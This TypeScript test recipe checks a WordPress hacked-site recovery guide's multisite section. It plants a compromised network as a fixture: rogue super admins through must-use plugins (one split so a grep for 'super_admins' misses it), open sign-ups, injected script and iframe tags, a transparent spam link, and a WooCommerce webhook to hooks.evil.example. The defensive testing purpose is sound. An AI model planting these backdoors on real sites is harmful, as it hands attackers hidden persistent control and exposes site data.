/**
 * The hacked-site recovery guide's multisite block ("Multisite networks"), on
 * the site and namespace of wordpress.ts: the installed site converted into
 * a subdomain network with a second site, shop.example.com (the block's own
 * `B=2; U=shop.example.com/`, so it runs as printed), then broken into the
 * ways the block names: an unknown super admin, a must-use plugin granting
 * one, another setting $super_admins under a name no search of PHP files
 * finds (review r110a MEDIUM-1), open sign-ups and a pending sign-up that makes an administrator of
 * site 2, a script in the network's site meta, and on site 2 an
 * administrator, an account with manage_options and no role, a role given
 * manage_options, default_role administrator, injected code in a post and
 * an option, and a shop's REST API key and webhook in its own WooCommerce
 * tables (review r119a L5), and a link in transparent text on its page (review
 * r127a M1). Each must show in what the block prints. The block runs after the
 * lines it takes from the blocks before it (SITE, P, H and the links function);
 * those blocks run whole in wordpress-security.
 */
import {chownSync, mkdirSync, writeFileSync} from 'node:fs';
import path from 'node:path';
import type {BlockRef} from './blocks';
import {admin, SOCKET} from './mariadb';
import {escapeRegExp} from './paths';
import {replace, type Recipe, type RecipeContext} from './recipe';
import {READER, run, tool} from './system';
import {SITE, wordpressNamespace, type WordPressNamespace} from './wordpress';
import {pristineSite, reinstallSite} from './wordpressBackup';
import {CODE_FREE_CHECKS, LOADING_CHECKS, wooCommerceKeyAndWebhook} from './wordpressSecurity';

const RECOVERY = 'wordpress/hacked-site-recovery';
export const MULTISITE_BLOCK: BlockRef = {
  article: RECOVERY,
  title: 'Terminal (multisite only: the same clean shell, after the block above)',
};

/** What the break-in left, each of which the block must show. */
const PLANTED = {
  superAdmin: 'ghost',
  muPlugin: 'wp-content/mu-plugins/net-cache.php',
  /** A must-use plugin setting the $super_admins global, its name split so that grep for super_admins misses it. */
  globalMuPlugin: 'wp-content/mu-plugins/cache-helper.php',
  globalSuperAdmin: 'shadow',
  signup: 'sleeper',
  blogMetaKey: 'promo_banner',
  shopAdmin: 'shopadmin',
  noRoleUser: 'shophelper',
  role: 'keeper',
  postScript: '<script src="https://cdn.example.net/s.js"></script>',
  option: 'shop_footer',
  /** Spam on site 2 that no hidden-link pattern matches (review r127a M1): the list of outside domains names it. */
  transparentLink: {domain: 'dice.example', html: '<a href="https://dice.example/" style="color:transparent">dice</a>'},
  shopKey: {description: 'Stock sync', permissions: 'read_write'},
  shopWebhook: {name: 'Stock feed', url: 'https://hooks.evil.example/stock'},
};

/** The network, made once per run from the installed site: its dump and a copy of its web root, restored for each run. */
function brokenIntoNetwork(ctx: RecipeContext, ns: WordPressNamespace): Promise<{sql: string; publicFolder: string}> {
  const ws = ctx.workspace;
  return ws.once('wordpress-multisite-network', async () => {
    const {sql} = await pristineSite(ws, ns);
    reinstallSite(ws, ns, sql);
    const wp = `wp --path=${SITE.root} --skip-plugins --skip-themes`;
    const shop = `${wp} --url=shop.example.com/`;
    const made = ns.asSite(
      [
        `${wp} core multisite-convert --subdomains --title=Example`,
        `${wp} site create --slug=shop --title=Shop --email=admin@example.com`,
        `${wp} user create ${PLANTED.superAdmin} ${PLANTED.superAdmin}@example.net --role=subscriber --user_pass=planted-password`,
        `${wp} super-admin add ${PLANTED.superAdmin}`,
        `${shop} user create ${PLANTED.shopAdmin} ${PLANTED.shopAdmin}@example.net --role=administrator --user_pass=planted-password`,
        `${shop} user create ${PLANTED.noRoleUser} ${PLANTED.noRoleUser}@example.net --role=subscriber --user_pass=planted-password`,
        `${shop} role create ${PLANTED.role} Keeper`,
        `${shop} cap add ${PLANTED.role} manage_options`,
        `mkdir -p ${SITE.root}/wp-content/mu-plugins`,
      ].join(' && '),
    );
    if (made.status !== 0) throw new Error(`making the network failed:\n${made.output}`);
    const muPlugin = ns.host(`${SITE.root}/${PLANTED.muPlugin}`);
    writeFileSync(muPlugin, `<?php\nadd_filter('pre_site_option_site_admins', fn () => ['admin', '${PLANTED.superAdmin}']);\n`);
    chownSync(muPlugin, READER.uid, READER.gid);
    const globalMuPlugin = ns.host(`${SITE.root}/${PLANTED.globalMuPlugin}`);
    writeFileSync(globalMuPlugin, `<?php\n$GLOBALS['super' . '_admins'] = array('admin', '${PLANTED.globalSuperAdmin}');\n`);
    chownSync(globalMuPlugin, READER.uid, READER.gid);
    const signupMeta = 'a:2:{s:11:"add_to_blog";i:2;s:8:"new_role";s:13:"administrator";}';
    admin(
      ws,
      [
        "UPDATE wp_sitemeta SET meta_value = 'all' WHERE meta_key = 'registration'",
        `INSERT INTO wp_signups (domain, path, title, user_login, user_email, registered, active, activation_key, meta)
          VALUES ('', '', '', '${PLANTED.signup}', '${PLANTED.signup}@example.net', NOW(), 0, 'b7c1d2e3f4a5b6c7', '${signupMeta}')`,
        `INSERT INTO wp_blogmeta (blog_id, meta_key, meta_value) VALUES (2, '${PLANTED.blogMetaKey}', '<script>fetch("//cdn.example.net/c")</script>')`,
        `UPDATE wp_usermeta m JOIN wp_users u ON u.ID = m.user_id SET m.meta_value = 'a:1:{s:14:"manage_options";b:1;}'
          WHERE u.user_login = '${PLANTED.noRoleUser}' AND m.meta_key = 'wp_2_capabilities'`,
        "UPDATE wp_2_options SET option_value = 'administrator' WHERE option_name = 'default_role'",
        `UPDATE wp_2_posts SET post_content = CONCAT(post_content, '${PLANTED.postScript}') WHERE ID = 1`,
        `UPDATE wp_2_posts SET post_content = CONCAT(post_content, '${PLANTED.transparentLink.html}') WHERE ID = 2`,
        `INSERT INTO wp_2_options (option_name, option_value, autoload) VALUES ('${PLANTED.option}', '<iframe src="https://cdn.example.net/f"></iframe>', 'yes')`,
        wooCommerceKeyAndWebhook(
          'wp_2_',
          `(SELECT ID FROM wp_users WHERE user_login = '${PLANTED.shopAdmin}')`,
          PLANTED.shopKey,
          PLANTED.shopWebhook,
        ).replace(/;$/, ''),
      ].join(';\n'),
      SITE.database,
    );
    const dumped = run(tool('mysqldump'), [`--socket=${ws.at(SOCKET)}`, SITE.database]);
    if (dumped.status !== 0) throw new Error(`mysqldump of the network failed: ${dumped.output}`);
    const saved = path.join(ns.dir, 'broken-into-network');
    mkdirSync(saved, {recursive: true});
    const publicFolder = path.join(saved, 'public');
    const copied = run('/bin/cp', ['-a', ns.host(SITE.root), publicFolder]);
    if (copied.status !== 0) throw new Error(`cp -a of the network's files failed: ${copied.output}`);
    ws.note(
      RECOVERY,
      'a multisite network',
      'the installed site converted with `wp core multisite-convert --subdomains`, site 2 made with `wp site create --slug=shop` (shop.example.com, as the block names it)',
    );
    return {sql: dumped.stdout, publicFolder};
  });
}

/** The one line of `ref`'s block matching `pattern` (a variable it sets), which the multisite block relies on. */
function settingLine(ctx: RecipeContext, ref: BlockRef, pattern: RegExp): string {
  const line = ctx.block(ref).value.match(pattern)?.[0];
  if (!line) ctx.fail(ref, `no line matching ${pattern} for the multisite block to rely on`);
  return line;
}

/** The output's lines that are exactly the tab-separated `cells`. */
const hasRow = (output: string, ...cells: (string | RegExp)[]) =>
  new RegExp(`^${cells.map((c) => (typeof c === 'string' ? escapeRegExp(c) : c.source)).join('\\t')}$`, 'm').test(output);

async function checkNetwork(ctx: RecipeContext) {
  const ws = ctx.workspace;
  const ns = await wordpressNamespace(ws);
  const network = await brokenIntoNetwork(ctx, ns);
  const restore = () => reinstallSite(ws, ns, network.sql, network.publicFolder);
  const site = settingLine(ctx, CODE_FREE_CHECKS, /^cd \/ && SITE=\S+$/m);
  // P, H and the links function the block calls per site
  const pattern = [/^P='.*'$/m, /^H='.*'$/m, /^links\(\) \{[^]*?^\}$/m].map((line) => settingLine(ctx, LOADING_CHECKS, line)).join('\n');
  // The main block's gate sets left; 0 is what it leaves when nothing can put an old hash back (review r97b L6).
  const gate = 'left=0';
  ws.note(
    RECOVERY,
    'the same clean shell, after the block above',
    `the block runs after "${site}", the P and H lines and the links function of the blocks before it and the main block's ${gate}`,
  );
  const block = ctx.block(MULTISITE_BLOCK).value;
  const hash = (login: string) => admin(ws, `SELECT user_pass FROM wp_users WHERE user_login = '${login}'`, SITE.database);

  restore();
  const before = hash(PLANTED.shopAdmin);
  const ran = ns.asSite(`${site}\n${pattern}\n${gate}\n${block}`);
  const out = ran.output;
  const expectShown = (ok: boolean, what: string, missing: string) =>
    ctx.expect(ok, MULTISITE_BLOCK, what, () => `the multisite block did not show ${missing}:\n${out}`);

  expectShown(
    new RegExp(`^${PLANTED.superAdmin}$`, 'm').test(out.split('\n').slice(0, 4).join('\n')) && out.includes(`s:5:"${PLANTED.superAdmin}"`),
    `super-admin list and the site_admins row show the unknown super admin ${PLANTED.superAdmin}`,
    `the super admin ${PLANTED.superAdmin} in super-admin list and site_admins`,
  );
  expectShown(
    new RegExp(`^${SITE.root}/${PLANTED.muPlugin}:2:.*site_admins`, 'm').test(out),
    `the search of PHP files names the must-use plugin ${PLANTED.muPlugin}, whose filter on site_admins makes a super admin`,
    `the must-use plugin ${PLANTED.muPlugin} filtering site_admins`,
  );
  expectShown(
    out.includes(`["admin","${PLANTED.globalSuperAdmin}"]`),
    `WordPress's own list (get_super_admins) shows ${PLANTED.globalSuperAdmin}, whom a $super_admins line no search names makes a super admin`,
    `${PLANTED.globalSuperAdmin}, a super admin through the $super_admins global, in WordPress's own list`,
  );
  expectShown(
    hasRow(out, 'registration', 'all'),
    "the network's settings show registration all (anyone may sign up)",
    'registration all in wp_sitemeta',
  );
  expectShown(
    hasRow(out, /\d+/, PLANTED.signup, `${PLANTED.signup}@example.net`, '', '', /[-0-9: ]+/, /.*"administrator".*/),
    `the pending sign-ups show ${PLANTED.signup}, whose key would make an administrator of site 2`,
    `the pending sign-up ${PLANTED.signup} in wp_signups`,
  );
  expectShown(
    hasRow(out, 'site', '2', PLANTED.blogMetaKey),
    `the search of the network's tables finds the script in wp_blogmeta (${PLANTED.blogMetaKey} of site 2)`,
    `the script in wp_blogmeta's ${PLANTED.blogMetaKey}`,
  );
  expectShown(
    /^2\tshop\.example\.com\t\/\t/m.test(out),
    'site list shows site 2, shop.example.com',
    'site 2 (shop.example.com) in site list',
  );
  expectShown(
    new RegExp(`^\\d+\\s+${PLANTED.shopAdmin}\\s+${PLANTED.shopAdmin}\\s+${PLANTED.shopAdmin}@example\\.net\\s`, 'm').test(out) &&
      hasRow(out, /\d+/, PLANTED.noRoleUser, `${PLANTED.noRoleUser}@example.net`, /[-0-9: ]+/, /.*manage_options.*/),
    `on site 2, the administrators and the capabilities query show ${PLANTED.shopAdmin} and ${PLANTED.noRoleUser} (manage_options, no role)`,
    `site 2's administrator ${PLANTED.shopAdmin} and ${PLANTED.noRoleUser} (manage_options, no role)`,
  );
  expectShown(
    hasRow(out, 'default_role', 'administrator'),
    "site 2's options show default_role administrator",
    "default_role administrator in site 2's options",
  );
  expectShown(
    hasRow(out, '1', 'post', 'publish', 'Hello world!') && hasRow(out, /\d+/, PLANTED.option),
    `the searches of site 2's tables find the script in its post 1 and the iframe in its option ${PLANTED.option}`,
    `the script in site 2's post 1 and the iframe in its option ${PLANTED.option}`,
  );
  expectShown(
    hasRow(out, PLANTED.transparentLink.domain, '1', 'page:2'),
    `the list of site 2's outside domains names ${PLANTED.transparentLink.domain}, linked in transparent text on its page 2`,
    `${PLANTED.transparentLink.domain} (a transparent link on site 2's page 2) in the list of outside domains`,
  );
  expectShown(
    hasRow(out, /\d+/, /\d+/, PLANTED.shopAdmin, PLANTED.shopKey.description, PLANTED.shopKey.permissions, 'NULL') &&
      hasRow(out, /\d+/, PLANTED.shopWebhook.name, 'active', PLANTED.shopWebhook.url, /\d+/, PLANTED.shopAdmin),
    `site 2's WooCommerce tables show its API key "${PLANTED.shopKey.description}" and webhook "${PLANTED.shopWebhook.name}", each with ${PLANTED.shopAdmin} as owner`,
    `site 2's API key "${PLANTED.shopKey.description}" and webhook "${PLANTED.shopWebhook.name}"`,
  );
  expectShown(
    new RegExp(`^#\\d+ "${PLANTED.role}" manage_options$`, 'm').test(out),
    `the roles check names site 2's role ${PLANTED.role}, given manage_options`,
    `the role ${PLANTED.role} (manage_options) in the roles check`,
  );
  expectShown(
    new RegExp(`^Reset password for ${PLANTED.shopAdmin}\\.$`, 'm').test(out) && hash(PLANTED.shopAdmin) !== before,
    `the loop gives site 2's administrator ${PLANTED.shopAdmin} a new password`,
    `a new password for ${PLANTED.shopAdmin}`,
  );

  // B and U naming different sites: the guard's message, and nothing of the if runs.
  restore();
  const mismatched = block.replace(/^B=2;/m, 'B=3;');
  if (mismatched === block) ctx.fail(MULTISITE_BLOCK, 'no `B=2;` line to set to another site');
  ws.note(RECOVERY, 'B=2; U=shop.example.com/', 'run as printed, then with B=3 (no such site) for the guard');
  const guarded = ns.asSite(`${site}\n${pattern}\n${gate}\n${mismatched}`).output;
  ctx.expect(
    /^B and U do not name the same site/m.test(guarded) && !/^Reset password for /m.test(guarded) && hash(PLANTED.shopAdmin) === before,
    MULTISITE_BLOCK,
    "with B and U naming different sites, the block prints the guard's message and resets no password",
    () => `with B=3 and U=shop.example.com/, the multisite block printed:\n${guarded}`,
  );

  // The main block stopped (a trigger, event or view left that can put an old hash back): no reset here either.
  restore();
  const stopped = ns.asSite(`${site}\n${pattern}\nleft=1\n${block}`).output;
  ctx.expect(
    /^STOP: /m.test(stopped) && !/^Reset password for /m.test(stopped) && hash(PLANTED.shopAdmin) === before,
    MULTISITE_BLOCK,
    'after the main block printed STOP (left=1), the block stops too and resets no password',
    () => `with left=1 from the main block, the multisite block printed:\n${stopped}`,
  );
}

export const wordpressMultisiteRecipe: Recipe = {
  name: 'wordpress-multisite',
  summary:
    "the hacked-site recovery guide's multisite block on a network broken into: super admins, sign-ups, site 2's accounts, roles and tables",
  run: checkNetwork,
  // On wordpress-backup's namespace and installed site, last in that lane: it leaves a network behind.
  lane: 'wordpress',
  breakingEdits: [
    {
      what: "drop WordPress's own list of super admins (get_super_admins)",
      ref: MULTISITE_BLOCK,
      edit: replace(/^wp [^\n]*get_super_admins\(\)[^\n]*\n/m, ''),
      expect: /did not show shadow, a super admin through the \$super_admins global/,
    },
    {
      what: 'drop the query of pending sign-ups',
      ref: MULTISITE_BLOCK,
      edit: replace(/^wp [^\n]*"SELECT signup_id[^\n]*\n[^\n]*\n/m, ''),
      expect: /did not show the pending sign-up/,
    },
    {
      what: "drop wp_blogmeta from the search of the network's tables",
      ref: MULTISITE_BLOCK,
      edit: replace(/ UNION ALL SELECT 'site', blog_id, meta_key FROM wp_blogmeta\s+WHERE meta_value REGEXP '\$P'/, ''),
      expect: /did not show the script in wp_blogmeta/,
    },
    {
      what: "leave out site 2's list of outside domains (review r127a M1)",
      ref: MULTISITE_BLOCK,
      edit: replace(/^ {2}links "wp_\$\{B\}_"\n/m, ''),
      expect: /did not show dice\.example/,
    },
    {
      what: "read the main site's capabilities instead of site 2's",
      ref: MULTISITE_BLOCK,
      edit: replace("m.meta_key = 'wp_${B}_capabilities'", "m.meta_key = 'wp_capabilities'"),
      expect: /did not show site 2's administrator/,
    },
    {
      what: "drop site 2's API keys and webhooks (review r119a L5)",
      ref: MULTISITE_BLOCK,
      // Each guarded query: its SHOW TABLES line and the query's two lines
      edit: (text) =>
        text.replace(
          /^ {2}\[ -n "\$\(wp [^\n]*SHOW TABLES LIKE 'wp_\$\{B\}_(woocommerce_api_keys|wc_webhooks)'[^\n]*\n(?:[^\n]*\n){2}/gm,
          '',
        ),
      expect: /did not show site 2's API key "Stock sync" and webhook "Stock feed"/,
    },
    {
      what: 'drop the B and U guard',
      ref: MULTISITE_BLOCK,
      edit: replace(/^elif \[ "\$\(wp [^\n]*db prefix\)" != "wp_\$\{B\}_" \]; then\n/m, 'elif false; then\n'),
      expect: /with B=3 and U=shop\.example\.com\/, the multisite block printed/,
    },
    {
      what: "drop the main block's gate",
      ref: MULTISITE_BLOCK,
      edit: replace(/^elif \[ "\$\{left:-x\}" != 0 \]; then[^\n]*\n/m, ''),
      expect: /with left=1 from the main block, the multisite block printed/,
    },
  ],
};
